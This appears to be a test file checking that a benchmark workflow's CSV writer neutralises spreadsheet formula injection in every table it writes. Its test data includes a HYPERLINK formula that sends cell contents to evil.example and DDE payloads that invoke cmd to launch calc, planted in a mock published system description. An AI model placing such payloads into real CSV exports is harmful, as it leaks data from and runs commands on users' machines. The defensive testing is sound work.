"""Every CSV the workflow writes is safe to open in a spreadsheet (OWASP "CSV injection"): a
text cell never starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (it gets a
``'`` first), numbers stay numbers, and the workflow's own reader gets the text back exactly.
The tables are all written by ``scripts.core.safe_csv.write_csv``; a published system description
and a host line of hostile text reach runs.csv, summary.csv and leaderboard.csv neutralised."""

from __future__ import annotations

import ast
import csv
import io
import json
import math
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scripts.analysis import leaderboard, tables
from scripts.core import safe_csv
from scripts.core.layout import result_files
from scripts.run.published.run import import_run
from scripts.run.result_json import write_result

SCRIPTS = Path(__file__).resolve().parents[1] / "scripts"
STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


def cells(text: str) -> list[list[str]]:
    """The rows of a CSV text as the csv module reads it (as a spreadsheet would split it)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# text that starts with what a spreadsheet evaluates more often than st.text() alone would
texts = st.one_of(
    st.text(),
    st.builds(lambda a, b: a + b, st.sampled_from([*STARTS, "'", "''", "'=", "\n"]), st.text()),
)
numbers = st.one_of(
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=False, allow_infinity=False),
)


@settings(derandomize=True, max_examples=300, deadline=None)
@given(st.lists(st.tuples(texts, numbers, numbers), min_size=1, max_size=8))
def test_no_text_cell_starts_a_formula_and_numbers_stay_numbers(
    rows: list[tuple[str, int | float, int | float]],
) -> None:
    # column "mixed": text and numbers in one object column, as runs.csv's cells can be
    frame = pd.DataFrame(
        {
            "text": [t for t, _, _ in rows],
            "mixed": [x if i % 2 else t for i, (t, x, _) in enumerate(rows)],
            "number": pd.Series([x for _, _, x in rows], dtype=float),
        }
    )
    text = safe_csv.to_csv_text(frame)
    header, *body = cells(text)
    assert header == ["text", "mixed", "number"]
    assert len(body) == len(rows)  # a \r or \n in a cell never starts another row
    for i, ((t, x, y), row) in enumerate(zip(rows, body, strict=True)):
        assert not row[0].startswith(STARTS), row[0]
        assert safe_csv.restore(row[0]) == t
        if i % 2:  # a number written as a number: as it is, minus sign and all
            assert not row[1].startswith("'") and float(row[1]) == x
        else:
            assert not row[1].startswith(STARTS) and safe_csv.restore(row[1]) == t
        assert float(row[2]) == float(y)


@settings(derandomize=True, max_examples=300, deadline=None)
@given(texts)
def test_neutralise_is_undone_exactly_and_only_touches_what_a_spreadsheet_evaluates(
    text: str,
) -> None:
    out = safe_csv.neutralise(text)
    assert not out.startswith(STARTS)
    assert safe_csv.restore(out) == text
    assert out == text or out == "'" + text
    if not text.lstrip("'").startswith(STARTS):
        assert out == text


def test_text_numbers_and_the_workflows_reader(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "x": ["-3", -3, -1.5, "+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-x", "plain", None],
            "t": [-1.5, -3, 0.5, 1, 2, 3, 4, 5, 6, 7, math.nan],
        }
    )
    path = tmp_path / "t.csv"
    safe_csv.write_csv(frame, path, float_format="%.10g")
    assert [r[0] for r in cells(path.read_bytes().decode())[1:]] == [
        "'-3", "-3", "-1.5", "'+1", "'@SUM(A1)", "'\t=1", "'\r=1", "''=1", "'''-x", "plain", "",
    ]  # fmt: skip
    back = safe_csv.read_csv(path)
    assert back["x"].tolist()[:10] == [
        "-3", "-3", "-1.5", "+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-x", "plain",
    ]  # fmt: skip
    assert back["t"].tolist()[:10] == [-1.5, -3, 0.5, 1, 2, 3, 4, 5, 6, 7]
    assert path.read_bytes().decode().count("\n") == 12  # header, 11 rows: \n line ends


def test_rows_and_a_hostile_column_name_are_written_safely(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    safe_csv.write_csv([{"a": "=1", "=b": -2}], path, columns=["a", "=b"])
    assert cells(path.read_text()) == [["a", "'=b"], ["'=1", "-2"]]
    assert safe_csv.read_csv(path).columns.tolist() == ["a", "=b"]


def test_every_table_is_written_by_safe_csv_and_nothing_else_writes_csv() -> None:
    """No module but scripts/core/safe_csv.py calls ``to_csv`` or the csv module's writers: a new
    table goes through write_csv."""
    writers = {"to_csv", "writer", "DictWriter"}
    found = []
    for path in sorted(SCRIPTS.rglob("*.py")):
        if path.name == "safe_csv.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Attribute) and node.attr in writers:
                found.append(f"{path.relative_to(SCRIPTS.parent)}:{node.lineno} {node.attr}")
    assert found == []


# ---------------------------------------------------------------------------------------------
# A published folder with a hostile system description and host line, imported and tabled


def mllog(time_ms: int, kind: str, key: str, value: str, meta: str = "{}") -> str:
    return (
        f':::MLLOG {{"namespace": "", "time_ms": {time_ms}, "event_type": "{kind}", '
        f'"key": "{key}", "value": {value}, "metadata": {meta}}}\n'
    )


def published_log(host: str, minutes: float) -> str:
    """One run of a published result: a host line of NVIDIA's run scripts, then its events."""
    stop = 1000 + int(minutes * 60_000)
    return (
        f"Launching on node {host}\n"
        + mllog(500, "POINT_IN_TIME", "submission_benchmark", '"bert"')
        + mllog(1000, "INTERVAL_START", "run_start", "null")
        + mllog(stop - 10, "POINT_IN_TIME", "eval_accuracy", "0.75")
        + mllog(stop, "INTERVAL_END", "run_stop", "null", '{"status": "success"}')
    )


HOSTILE = {
    "submitter": HYPERLINK,
    "division": "+closed",
    "accelerator_model_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "framework": "-2+3+cmd|' /C calc'!A0",
    "system_name": "\t=1+1",
    "number_of_nodes": "1",
    "accelerators_per_node": "8",
}


def import_hostile_folder(root: Path) -> tuple[Path, list[Path]]:
    """A published submitter folder whose systems/box.json is :data:`HOSTILE` and whose five
    logs name the host ``=HYPERLINK(...)``, imported as the workflow's import job does; the
    benchmark's results folder and the runs' result.json files."""
    sub = root / "training_results_v5.0" / "Evil"
    folder = sub / "results" / "box" / "bert"
    folder.mkdir(parents=True)
    (sub / "systems").mkdir()
    (sub / "systems" / "box.json").write_text(json.dumps(HOSTILE))
    for i, minutes in enumerate([10.0, 11.0, 12.0, 13.0, 14.0]):
        (folder / f"result_{i}.txt").write_text(published_log(HYPERLINK, minutes))
    res = root / "results" / "bert-v5.0"
    results = []
    quality = {"metric": "quality", "target": 0.72, "direction": "higher"}
    for run, source in enumerate(result_files(folder), start=1):
        run_dir = res / "evil-box" / f"run_{run:02d}"
        spec = {
            "benchmark": "bert-v5.0",
            "system": "evil-box",
            "run": run,
            "scale": "published",
            "mlperf_name": "bert",
            "config_fingerprint": "cfp",
            "comparability": {},
            "mlperf": {},
        }
        log, meta = run_dir / "mlperf.log", run_dir / "run.json"
        import_run(source, spec, log, meta)
        write_result(log, meta, quality, "run_stop", run_dir / "result.json")
        results.append(run_dir / "result.json")
    return res, results


def test_a_hostile_published_system_reaches_every_table_neutralised(tmp_path: Path) -> None:
    res, results = import_hostile_folder(tmp_path)
    runs, summary, board = res / "runs.csv", res / "summary.csv", res / "leaderboard.csv"
    assert tables.main(["collect", "--output", str(runs), *map(str, results)]) == 0
    boot = ["--bootstrap-resamples", "200"]
    assert tables.main(["summarize", "--runs", str(runs), *boot, "--output", str(summary)]) == 0
    argv = ["--summary", str(summary), "--runs", str(runs), "--output", str(board), *boot]
    assert leaderboard.main(argv) == 0
    for path in (runs, summary, board):
        header, *rows = cells(path.read_bytes().decode())
        assert rows, path
        for row in rows:
            for name, cell in zip(header, row, strict=True):
                assert is_number(cell) or not cell.startswith(STARTS), (path.name, name, cell)
    # what the user sees in the spreadsheet: the text, a quote before it, never evaluated
    runs_rows = list(csv.DictReader(runs.open(newline="")))
    assert {r["host"] for r in runs_rows} == {"'" + HYPERLINK}
    assert {r["submitter"] for r in runs_rows} == {"'" + HYPERLINK}
    summary_row = next(csv.DictReader(summary.open(newline="")))
    board_row = next(csv.DictReader(board.open(newline="")))
    for row in (summary_row, board_row):
        assert row["submitter"] == "'" + HYPERLINK
        assert row["division"] == "'+closed"
        assert row["accelerator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert summary_row["framework"] == "'-2+3+cmd|' /C calc'!A0"
    # nothing lost: the workflow's own reader has the published text back, and the score
    back = safe_csv.read_csv(summary).iloc[0]
    assert back["submitter"] == HYPERLINK and back["framework"] == HOSTILE["framework"]
    assert back["n_accelerators"] == 8
    assert float(board_row["score_s"]) == pytest.approx(12 * 60, rel=1e-6)
    assert safe_csv.read_csv(board).iloc[0]["accelerator"] == HOSTILE["accelerator_model_name"]
